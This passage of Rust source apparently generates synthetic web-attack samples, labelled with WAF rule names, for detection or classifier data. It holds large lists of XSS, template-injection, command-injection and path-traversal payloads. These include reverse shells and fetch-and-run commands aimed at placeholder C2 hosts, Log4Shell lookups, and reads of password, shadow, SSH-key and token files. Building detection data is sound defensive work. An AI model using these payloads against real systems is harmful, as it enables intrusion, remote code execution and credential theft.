    "<embed src=\"«JS»«js»\">",
    "<base href=\"«JS»«js»//\">",
    "<math href=\"«JS»«js»\">CLICK</math>",
    "<meta http-equiv=\"refresh\" content=\"0;url=«JS»«js»\">",
    "«JS»«js»",
    "«JS»«js»//",
    "<svg><a xlink:href=\"«JS»«js»\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><a><animate attributeName=href values=«JS»«js» /><text x=20 y=20>Click</text></a>",
    "<iframe src=\"data:text/html;base64,«b64_script»\"></iframe>",
    "<object data=\"data:text/html;base64,«b64_script»\"></object>",
    "<a href=\"data:text/html,<script>«js»</script>\">x</a>",
    "<iframe srcdoc=\"<script>«js»</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=«js»&gt;\">",
    "<div style=\"background:url(«JS»«js»)\">",
    "<div style=\"width:expression(«js»)\">",
    "<style>@import '«JS»«js»';</style>",
    "<link rel=stylesheet href=\"«JS»«js»\">",
    "<img dynsrc=\"«JS»«js»\">",
    "<input type=image src=\"«JS»«js»\">",
    "<button formaction=«JS»«js»>go</button>",
];
const XSS_SCRIPT_VECTORS: &[&str] = &[
    "<script>«js»</script>",
    "<script>«js»</script>",
    "<script>«js»;</script>",
    "<SCRIPT>«js»</SCRIPT>",
    "<script type=\"text/javascript\">«js»</script>",
    "<script src=«js_url»></script>",
    "<script src=\"«js_url»\"></script>",
    "<script/src=«js_url»>",
    "<script>/*«sq_w»*/«js»</script>",
    "<scr<script>ipt>«js»</scr</script>ipt>",
    "<script>«js»//",
    "<script>document.write('<scr'+'ipt src=«js_url»></scr'+'ipt>')</script>",
    "<script\\x20type=\"text/javascript\">«js»;</script>",
    "<script x>«js»</script y>",
    "<ScRiPt>«js»</sCrIpT>",
    "<script>«js»</script «sq_w»>",
];
const XSS_BREAKOUTS: &[&str] = &[
    "\">",
    "'>",
    "\"/>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "\">",
    "'\">",
    "</style>",
    "\"><!--",
    "]]>",
    "</noscript>",
    "</option></select>",
    "\" >",
    "' >",
    "</div>",
    "«word»\">",
    "</iframe>",
    "</a>",
];
const XSS_JS_CONTEXT: &[&str] = &[
    "';«js»;//",
    "\";«js»;//",
    "'-«js»-'",
    "\"-«js»-\"",
    "'+«js»+'",
    "\\';«js»//",
    "</script><script>«js»</script>",
    "${«js»}",
    "';«js»;var «sq_w»='",
    "\");«js»;(\"",
    "1;«js»",
    "'}«js»;{'",
    "`;«js»;`",
];
/// Probe strings and odd vectors of older filter-evasion lists.
const XSS_PROBES: &[&str] = &[
    "'';!--\"<XSS>=&{()}", "<XSS>", "\"><XSS>", "'\"><«sq_w»>", "<«sq_w»>«sq_w»</«sq_w»>", "<xml id=«sq_w» src=\"«js_url»\"></xml>",
    "<meta http-equiv=\"link\" content=\"<«js_url»>; rel=stylesheet\">", "<img src=\"«mocha|livescript|vbscript»:«js»\">",
    "<iframe src=«js_url» <", "<a href=\"«js_url»\">«crosssitescripting|xss|click»</a>", "<link rel=import href=«js_url»>",
    "<object type=\"text/x-scriptlet\" data=\"«js_url»\"></object>", "<embed src=\"«js_url»\" AllowScriptAccess=\"always\">",
    "<applet code=\"javascript:«js»\"></applet>", "<bgsound src=\"javascript:«js»\">", "<layer src=\"«js_url»\"></layer>",
    "<br size=\"&{«js»}\">", "<div style=\"behavior: url(«js_url»);\">", "<xss style=\"xss:expression(«js»)\">",
    "<!--[if gte IE 4]><script>«js»</script><![endif]-->", "<?xml version=\"1.0\"?><html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">«js»</html:script>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"«js»\"/>", "<div id=\"«n99»\"><svg xmlns=\"http://www.w3.org/2000/svg\"><script>«js»</script>",
    "&#60;script&#62;«js»&#60;/script&#62;", "&lt;script&gt;«js»&lt;/script&gt;", "\\x3cscript\\x3e«js»\\x3c/script\\x3e",
    "\\u003cscript\\u003e«js»\\u003c/script\\u003e", "%3Cscript%3E«js»%3C/script%3E", "<<script>«js»//<</script>",
    "<img \"\"\"><script>«js»</script>\">", "<scr<!---->ipt>«js»</scr<!---->ipt>", "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058«js»\">",
];

const XSS_TEMPLATE: &[&str] = &[
    "{{constructor.constructor('«js»')()}}",
    "{{$on.constructor('«js»')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=«js»');}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.«js»>",
    "{{_openBlock.constructor('«js»')()}}",
    "<div v-html=\"'<img src=x onerror=«js»>'\"></div>",
    "[[${«js»}]]",
];

/// One XSS payload, obfuscated at random.
fn xss_payload(rng: &mut Rng) -> String {
    let core = match rng.below(100) {
        0..=37 => fill_xss(rng, XSS_TAG_EVENTS),
        38..=57 => fill_xss(rng, XSS_URI_VECTORS),
        58..=77 => fill_xss(rng, XSS_SCRIPT_VECTORS),
        78..=85 => fill_xss(rng, XSS_JS_CONTEXT),
        86..=88 => fill_xss(rng, XSS_TEMPLATE),
        89..=94 => fill_xss(rng, XSS_PROBES),
        _ => polyglot(rng),
    };
    let mut p = if rng.chance(30) { format!("{}{core}", rng.fill_one(XSS_BREAKOUTS)) } else { core };
    match rng.below(20) {
        0..=2 => p = tag_case(&p, rng),
        3 => p = p.replace(' ', rng.pick(&["/", "%09", "%0a", "\t", "%0c", "%0d", "/**/"])),
        4 => {
            // Entities inside the handler value only: the browser decodes them before running.
            if let Some(eq) = p.find('=') {
                let (head, tail) = p.split_at(eq + 1);
                let tail = encode::html_entities(tail, rng);
                p = format!("{head}{tail}");
            }
        }
        5 => p = encode::js_escapes(&p, rng).replace("\\u003c", "<").replace("\\x3c", "<"),
        6 => p = encode::html_entities(&p, rng),
        _ => {}
    }
    p
}

fn fill_xss(rng: &mut Rng, templates: &[&str]) -> String {
    let t = rng.pick(templates);
    let quote = rng.pick(&["", "", "\"", "'", "`"]);
    let scheme = rng.pick(&[
        "javascript:",
        "javascript:",
        "JaVaScRiPt:",
        "javascript&colon;",
        "java&#x09;script:",
        "jav&#x0A;ascript:",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;",
        " javascript:",
        "javas\tcript:",
        "JAVASCRIPT:",
        "vbscript:",
        "javascript://%0a",
    ]);
    let t = t.replace("«Q»", quote).replace("«JS»", scheme);
    rng.fill(&t)
}

/// Random case on tag and attribute names only (`<ImG SrC=x OnErRoR=...>`).
fn tag_case(s: &str, rng: &mut Rng) -> String {
    let mut out = String::with_capacity(s.len());
    let mut in_tag = false;
    for c in s.chars() {
        match c {
            '<' => in_tag = true,
            '>' | '=' => in_tag = false,
            ' ' | '/' => in_tag = in_tag || out.ends_with('<'),
            _ => {}
        }
        if in_tag && c.is_ascii_alphabetic() && rng.chance(50) {
            out.push(c.to_ascii_uppercase());
        } else {
            out.push(c);
        }
    }
    out
}

/// Several breakouts chained before one vector, with comment debris: the shape of polyglots.
fn polyglot(rng: &mut Rng) -> String {
    let mut s = String::new();
    for _ in 0..rng.range(2, 5) {
        s.push_str(&rng.fill("«'|\"|`|-->|*/|</title>|</style>|</textarea>|</script>|]]>|\\\"|'\">|/*|%0d%0a|//»"));
    }
    s.push_str(&fill_xss(rng, XSS_TAG_EVENTS));
    if rng.chance(50) {
        s.push_str(&rng.fill("«//|<!--|/*|'|\\x3e»"));
    }
    s
}

fn xss_web(rng: &mut Rng) -> String {
    let p = xss_payload(rng);
    let rule = rng.pick(&[
        "XSS Attack Detected via libinjection",
        "XSS Filter - Category 1: Script Tag Vector",
        "NoScript XSS InjectionChecker: HTML Injection",
        "AWS#AWSManagedRulesCommonRuleSet#CrossSiteScripting_QUERYARGUMENTS",
        "941100",
        "Javascript method detected",
    ]);
    web_value(rng, &p, Some(rule))
}

/// Stored XSS: a payload inside an otherwise ordinary comment, profile or ticket field.
fn xss_stored(rng: &mut Rng) -> String {
    let p = xss_payload(rng);
    let lead = rng.fill("«Nice post!|Great article, thanks|Hi, I have a question about my order|Check this out|«fullname»|My bio:|Test comment|Hello world|Thanks for the help!|»");
    let text = if rng.chance(50) { format!("{lead} {p}") } else { format!("{p} {lead}") };
    match rng.below(4) {
        0 => text,
        1 => serde_json::json!({"author": rng.fill("«fullname»"), "comment": text, "post_id": rng.range(1, 9999)})
            .to_string(),
        2 => format!(
            "{} INFO [comments] new comment by {} on /blog/{}: {text}",
            rng.fill("«ts_java»"),
            rng.fill("«user»"),
            rng.fill("«word»-«word»")
        ),
        _ => format!("display_name={}", encode::url_encode(&text, UrlLevel::Reserved, rng)),
    }
}

/// DOM XSS: payloads in the URL fragment or in parameters a page script writes into a sink.
fn xss_dom(rng: &mut Rng) -> String {
    let p = xss_payload(rng);
    let base = rng.fill("https://«fqdn»«webpath»");
    match rng.below(6) {
        0 => format!("{base}#{p}"),
        1 => format!("{base}#{}", encode::url_encode(&p, UrlLevel::Reserved, rng)),
        2 => format!(
            "{base}?{}={}",
            rng.pick(&["returnUrl", "redirect", "next", "callback", "continue", "url", "goto"]),
            rng.fill("javascript:«js»")
        ),
        3 => format!("{base}?callback={}", rng.fill("«js»//")),
        4 => format!("{base}?{}={}#", rng.fill("«param»"), encode::url_encode(&p, UrlLevel::Partial, rng)),
        _ => {
            rng.fill("«document.write|element.innerHTML =|$(«sq_w»).html|eval»(")
                + &format!("\"{}\")", p.replace('"', "\\\""))
        }
    }
}

// ---------------------------------------------------------------- command injection

const LINUX_INJECTED: &[&str] = &[
    "id",
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "ls -la",
    "ls -la /",
    "ls",
    "pwd",
    "hostname",
    "ifconfig",
    "ip a",
    "ps aux",
    "env",
    "netstat -an",
    "sleep «sq_s»",
    "ping -c «sq_s» 127.0.0.1",
    "nslookup «sq_w».«evil_domain»",
    "dig «sq_w».«evil_domain»",
    "curl «evil_domain»/?$(whoami)",
    "curl http://«c2»/`whoami`",
    "wget http://«c2»/«sq_w» -O /tmp/«sq_w»",
    "nc «c2» «lport» -e /bin/sh",
    "bash -c 'bash -i >& /dev/tcp/«c2»/«lport» 0>&1'",
    "echo «sq_w»",
    "echo $((«n99»*«n99»))",
    "expr «n99» + «n99»",
    "/bin/ls",
    "/usr/bin/id",
    "which python",
    "touch /tmp/«sq_w»",
    "rm -rf /tmp/«sq_w»",
    "cat /proc/version",
    "find / -name «flag.txt|*.conf|config.php» 2>/dev/null",
    "cat /etc/hosts",
    "uname",
    "cat index.php",
    "ls -l /var/www",
    "curl -s http://«c2»/s.sh|sh",
    "wget -qO- «c2»/x|bash",
    "/bin/cat /etc/passwd",
    "cat$IFS/etc/passwd",
    "head -n 5 /etc/passwd",
    "echo «sq_w» > /var/www/html/«sq_w».txt",
    "ls${IFS}-la",
];
const WINDOWS_INJECTED: &[&str] = &[
    "dir",
    "dir c:\\",
    "type C:\\Windows\\win.ini",
    "type %SYSTEMROOT%\\win.ini",
    "whoami",
    "ver",
    "ipconfig",
    "net user",
    "systeminfo",
    "tasklist",
    "ping -n «sq_s» 127.0.0.1",
    "timeout /t «sq_s»",
    "powershell -c whoami",
    "echo %USERNAME%",
    "set",
    "net localgroup administrators",
    "type c:\\boot.ini",
    "hostname",
    "certutil -urlcache -f http://«c2»/«sq_w».exe %TEMP%\\«sq_w».exe",
    "nslookup «sq_w».«evil_domain»",
    "powershell -nop -c \"iwr http://«c2»/p -useb|iex\"",
    "dir C:\\inetpub\\wwwroot",
];
const CMDI_SEPARATORS: &[&str] = &[
    ";", "; ", "|", " | ", "||", " || ", "&&", " && ", "&", " & ", "%0a", "%0A", "\n", "%0d%0a", "%3B", "%7C",
    "%26%26", "$(", "`", "';", "\";", "'|", "\"|", "';\n", "'&", "|| ", "%3b%20", "\r\n", "\\n",
];
const CMDI_PREFIXES: &[&str] = &[
    "",
    "",
    "",
    "127.0.0.1",
    "8.8.8.8",
    "localhost",
    "google.com",
    "«word».txt",
    "«n99»",
    "test",
    "«user»",
    "x",
    "a",
    "«ip»",
    "«word»",
    "1",
    "foo.jpg",
    "«email»",
];
const CMDI_SUFFIXES: &[&str] =
    &["", "", "", ";", "#", " #", "|", "&", "'", "\"", " -- ", "%00", ";#", "||", "&&", " ;"];

fn cmdi_payload(rng: &mut Rng) -> String {
    let windows = rng.chance(25);
    let mut cmd = if windows { rng.fill_one(WINDOWS_INJECTED) } else { rng.fill_one(LINUX_INJECTED) };
    if !windows && rng.chance(20) {
        cmd = encode::shell_obfuscate(&cmd, rng);
    } else if windows && rng.chance(15) {
        cmd = encode::cmd_obfuscate(&cmd, rng);
    }
    let pre = rng.fill_one(CMDI_PREFIXES);
    let sep = rng.pick(CMDI_SEPARATORS);
    let close = match sep {
        "$(" => ")".to_string(),
        "`" => "`".to_string(),
        _ => rng.fill_one(CMDI_SUFFIXES),
    };
    match rng.below(20) {
        0 => format!(
            "() {{ :; }}; {}",
            rng.fill(
                "«/bin/bash -c '«lincmd»'|echo; «lincmd»|/bin/«lincmd»|echo Content-Type: text/plain; echo; «lincmd»»"
            )
        ),
        1 => format!("<!--#exec cmd=\"{cmd}\" -->"),
        _ => format!("{pre}{sep}{cmd}{close}"),
    }
}

fn cmdi_web(rng: &mut Rng) -> String {
    let p = cmdi_payload(rng);
    let rule = rng.pick(&[
        "Remote Command Execution: Unix Command Injection",
        "Remote Command Execution: Windows Command Injection",
        "OS Command Injection",
        "Remote Command Execution: Unix Shell Code Found",
        "932100",
        "Bash shellshock attack",
    ]);
    web_value(rng, &p, Some(rule))
}

const CODE_SINKS: &[&str] = &[
    ";system('«lincmd»');",
    "${@system(\"«lincmd»\")}",
    "<?php system(\"«lincmd»\"); ?>",
    "<?php echo shell_exec($_GET['«c|cmd»']); ?>",
    "{${system('«lincmd»')}}",
    "';exec('«lincmd»');//",
    "__import__('os').system('«lincmd»')",
    "__import__('subprocess').check_output('«lincmd»',shell=True)",
    "require('child_process').exec('«lincmd»')",
    "require('child_process').execSync('«lincmd»').toString()",
    "{{config.__class__.__init__.__globals__['os'].popen('«lincmd»').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()[«n99»]('«lincmd»',shell=True,stdout=-1).communicate()}}",
    "${T(java.lang.Runtime).getRuntime().exec('«lincmd»')}",
    "#{Runtime.getRuntime().exec(\"«lincmd»\")}",
    "<%= `«lincmd»` %>",
    "`«lincmd»`",
    "system(\"«lincmd»\")",
    "exec(\"«lincmd»\")",
    "passthru('«lincmd»')",
    "${jndi:ldap://«evil_domain»:1389/«sq_w»}",
    "${jndi:${lower:l}${lower:d}ap://«c2»/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://«c2»/«sq_w»}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"«lincmd»\")}",
    "open(\"|«lincmd»\")",
    "eval(compile('import os;os.system(\"«lincmd»\")','x','exec'))",
    "expect://«lincmd»",
    "data://text/plain;base64,«b64_php»",
    "<?=`$_GET[«n9»]`?>",
    "${jndi:dns://«sq_w».«evil_domain»/x}",
];

/// Code-injection sinks that end in a command: PHP, Python, Node, Perl, Ruby, template engines,
/// JNDI lookups.
fn cmdi_code(rng: &mut Rng) -> String {
    let p = rng.fill_one(CODE_SINKS);
    web_value(rng, &p, Some("Remote Command Execution: PHP/Java/Template Injection"))
}

/// The application logged the command the injection produced.
fn cmdi_app_log(rng: &mut Rng) -> String {
    let host = rng.fill("«8.8.8.8|127.0.0.1|«fqdn»|«ip»»");
    let sep = rng.pick(&[";", "|", "&&", "`", "$(", "||", "\n"]);
    let injected = rng.fill_one(LINUX_INJECTED);
    let close = match sep {
        "`" => "`",
        "$(" => ")",
        _ => "",
    };
    let cmdline = format!(
        "{} {host}{sep}{injected}{close}",
        rng.pick(&["ping -c 4", "nslookup", "traceroute", "host", "convert", "ping -c 1", "dig", "whois"])
    );
    match rng.below(4) {
        0 => format!("{} ERROR [{}] command failed: /bin/sh -c \"{cmdline}\" exit status 1", rng.fill("«ts_java»"), rng.fill("«diagnostics|netcheck|tools|admin»")),
        1 => serde_json::json!({"time": rng.fill("«ts_iso»"), "level": "warn", "msg": "exec", "cmd": cmdline, "user": rng.fill("«user»")}).to_string(),
        2 => format!("{} {} php-fpm[{}]: shell_exec(): {cmdline}", rng.fill("«ts_syslog»"), rng.fill("«host»"), rng.fill("«pid»")),
        _ => format!("sh: 1: {}: not found", injected.split_whitespace().next().unwrap_or("id")),
    }
}

// ---------------------------------------------------------------- path traversal

const TRAVERSAL_DOTS: &[&str] = &[
    "..",
    "..",
    "..",
    "..",
    "%2e%2e",
    "%2E%2E",
    "%2e.",
    ".%2e",
    "%252e%252e",
    "%c0%ae%c0%ae",
    "%uff0e%uff0e",
    "0x2e0x2e",
    "%u002e%u002e",
    "%%32%65%%32%65",
    "..%00",
    "%e0%80%ae%e0%80%ae",
    "....",
    "?.",
    ".?",
    "??",
    "%%32%%65%%32%%65",
    "%252e.",
    "%c0%2e%c0%2e",
    ".%00.",
    "%uff0e.",
];
const TRAVERSAL_SEPARATORS: &[&str] = &[
    "/",
    "/",
    "/",
    "/",
    "\\",
    "\\",
    "%2f",
    "%2F",
    "%5c",
    "%252f",
    "%255c",
    "%c0%af",
    "%c1%9c",
    "//",
    "\\/",
    "%u2215",
    "0x2f",
    "%c0%2f",
    "%e0%80%af",
    "/./",
    "0x5c",
    "%%35%%63",
    "%uEFC8",
    "%c1%1c",
    "%u2216",
    "%5C",
    "%c0%5c",
    "%252F",
    "%25c0%25af",
    "%c0%9v",
    "%F0%80%80%AF",
];
const TRAVERSAL_UNITS: &[&str] =
    &["....//", "..././", "...\\.\\", "..;/", "....\\\\", "..\\/", ".../", "..%252f", "..%5c..%5c"];
const LINUX_TARGETS: &[&str] = &[
    "etc/passwd",
    "etc/passwd",
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/issue",
    "etc/group",
    "proc/self/environ",
    "proc/self/cmdline",
    "proc/version",
    "var/log/apache2/access.log",
    "var/log/nginx/error.log",
    "root/.ssh/id_rsa",
    "home/«user»/.ssh/id_rsa",
    "home/«user»/.bash_history",
    "etc/nginx/nginx.conf",
    "etc/mysql/my.cnf",
    "var/www/html/wp-config.php",
    "var/www/html/.env",
    ".env",
    "etc/hostname",
    "etc/crontab",
    "root/.bash_history",
    "etc/apache2/apache2.conf",
    "usr/local/etc/php.ini",
    "var/run/secrets/kubernetes.io/serviceaccount/token",
    "proc/self/fd/«n9»",
    "etc/ssh/sshd_config",
];
const WINDOWS_TARGETS: &[&str] = &[
    "windows/win.ini",
    "windows/win.ini",
    "boot.ini",
    "windows/system32/drivers/etc/hosts",
    "windows/system32/config/SAM",
    "inetpub/wwwroot/web.config",
    "windows/repair/sam",
    "windows/panther/unattend.xml",
    "windows/system.ini",
    "windows/debug/NetSetup.log",
    "ProgramData/«word»/config.xml",
    "Users/Administrator/NTUser.dat",
];
const APP_TARGETS: &[&str] = &[
    "WEB-INF/web.xml",
    "META-INF/MANIFEST.MF",
    "config/database.yml",
    "app/etc/local.xml",
    "config.php",
    "includes/config.inc.php",
    "application.properties",
    "settings.py",
    "wp-config.php",
    "config/secrets.yml",
    ".git/config",
    ".htaccess",
    "conf/server.xml",
    "appsettings.json",
];
const TRAVERSAL_SUFFIXES: &[&str] =
    &["", "", "", "", "", "%00", "%00.jpg", "%00.html", "%2500", "?", "%00.php", ";.png", "#", ".png", "\0"];

/// One traversal: prefix, repeated dot-dot units in one encoding, a target written with the same
/// separator, a suffix.
fn traversal_payload(rng: &mut Rng) -> String {
    if rng.chance(12) {
        return rng.fill(
            "«file:///etc/passwd|file:///c:/windows/win.ini|php://filter/convert.base64-encode/resource=«../|»«config|index|db|wp-config»«.php|»|php://filter/read=string.rot13/resource=index.php|/etc/passwd|/etc/shadow|c:\\windows\\win.ini|C:/boot.ini|\\\\localhost\\c$\\windows\\win.ini|/proc/self/environ|zip://uploads/«sq_w».jpg%23shell.php|phar://uploads/«sq_w».phar/test.txt|/var/www/html/../../../etc/passwd|//etc/passwd|%2fetc%2fpasswd|file:%2f%2f%2fetc%2fpasswd|/./././././etc/passwd»",
        );
    }
    let (unit, sep) = if rng.chance(15) {
        let unit = rng.pick(TRAVERSAL_UNITS).to_string();
        let sep = if unit.contains('\\') || unit.contains("%5c") { "\\" } else { "/" };
        (unit, sep.to_string())
    } else {
        let dots = rng.pick(TRAVERSAL_DOTS);
        let sep = rng.pick(TRAVERSAL_SEPARATORS);
        (format!("{dots}{sep}"), sep.to_string())
    };
    let depth = rng.range(1, 12) as usize;
    let target_sep = match sep.as_str() {
        "//" | "\\/" | "/./" => "/".to_string(),
        s => s.to_string(),
    };
    let windows = sep.contains('\\') || sep.contains("5c") || sep.contains("9c") || rng.chance(15);
    let target = if windows && rng.chance(75) {
        rng.fill_one(WINDOWS_TARGETS)
    } else if rng.chance(18) {
        rng.fill_one(APP_TARGETS)
    } else {
        rng.fill_one(LINUX_TARGETS)
    };
    let target = target.replace('/', &target_sep);
    let prefix = rng.fill("«|||/|./|«linux_dir»/|images/|static/|uploads/|C:\\inetpub\\wwwroot\\|/var/www/images/|«word».«ext»/|assets/|templates/»");
    let suffix = rng.pick(TRAVERSAL_SUFFIXES);
    let mut p = format!("{prefix}{}{target}{suffix}", unit.repeat(depth));
    if rng.chance(10) {
        p = encode::mixed_case(&p, rng);
    }
    p
}

fn traversal_web(rng: &mut Rng) -> String {
    let p = traversal_payload(rng);
    let rule = rng.pick(&[
        "Path Traversal Attack (/../)",
        "OS File Access Attempt",
        "Directory traversal attempt",
        "AWS#AWSManagedRulesKnownBadInputsRuleSet#GenericLFI_QUERYARGUMENTS",
        "930100",
        "Local File Inclusion",
    ]);
    if rng.chance(40) {
        // File-ish parameter names, as traversal targets them.
        let param = rng.pick(&[
            "file", "page", "path", "doc", "template", "include", "lang", "img", "download", "view", "filename", "dir",
            "folder", "style", "pdf", "layout", "conf", "log",
        ]);
        let encoded = encode::url_encode(&p, if rng.chance(50) { UrlLevel::Spaces } else { UrlLevel::draw(rng) }, rng);
        let url = format!(
            "{}?{param}={encoded}",
            rng.fill("«webpath»|/download.php|/index.php|/view.php|/getfile|/api/files|/image.php|/show.php|/read.asp")
        );
        if rng.chance(60) {
            return url;
        }
        let head = rng.fill("«ip» - - [«ts_apache»] \"GET ");
        let tail = rng.fill(" HTTP/1.1\" «200|404|400|500» «bytes» \"-\" \"«ua»\"");
        return format!("{head}{url}{tail}");
    }
    web_value(rng, &p, Some(rule))
}

fn traversal_path(rng: &mut Rng) -> String {
    let p = traversal_payload(rng);
    let path = if p.starts_with('/') || rng.chance(50) {
        p
    } else {
        format!(
            "{}{p}",
            rng.pick(&[
                "/static/",
                "/images/",
                "/cgi-bin/",
                "/assets/",
                "/files/",
                "/download/",
                "/icons/",
                "/",
                "/.well-known/",
                "/public/"
            ])
        )
    };
    web_path(rng, &path)
}

fn traversal_app_log(rng: &mut Rng) -> String {
    let p = traversal_payload(rng);
    match rng.below(5) {
        0 => format!("java.io.FileNotFoundException: /var/lib/tomcat9/webapps/ROOT/uploads/{p} (No such file or directory)"),
        1 => format!("PHP Warning:  include({p}): failed to open stream: No such file or directory in /var/www/html/index.php on line {}", rng.range(5, 300)),
        2 => format!("{} WARN [{}] blocked file access outside root: requested=\"{p}\"", rng.fill("«ts_java»"), rng.fill("«static|files|download»")),
        3 => serde_json::json!({"ts": rng.fill("«ts_iso»"), "level": "error", "msg": "open failed", "path": p, "client": rng.fill("«ip»")}).to_string(),
        _ => format!("[{}] [core:error] [pid {}] [client {}] AH10244: invalid URI path ({p})", rng.fill("«ts_apache_err»"), rng.fill("«pid»"), rng.fill("«ip»:«hiport»")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payloads_carry_their_family_tells() {
        let mut rng = Rng::new(21);
        for _ in 0..200 {
            let t = traversal_payload(&mut rng).to_lowercase();
            let unit = TRAVERSAL_DOTS.iter().chain(TRAVERSAL_UNITS).any(|u| t.contains(&u.to_lowercase()));
            let absolute = ["/etc/", "c:", "\\\\", "php://", "file:", "phar:", "zip:", "/proc/", "etc%2f"]
                .iter()
                .any(|p| t.contains(p));
            assert!(unit || absolute, "{t}");
            let u = union_select(&mut rng).to_lowercase();
            assert!(u.contains("union"), "{u}");
        }
    }

    #[test]
    fn tautologies_hold() {
        let mut rng = Rng::new(4);
        for _ in 0..100 {
            let t = tautology(&mut rng);
            if let Some((a, b)) = t.split_once('=') {
                if !t.contains("ascii") {
                    assert_eq!(a, b, "{t}");
                }
            }
            let c = contradiction(&mut rng);
            let (a, b) = c.split_once('=').unwrap();
            assert_ne!(a, b);
        }
    }
}
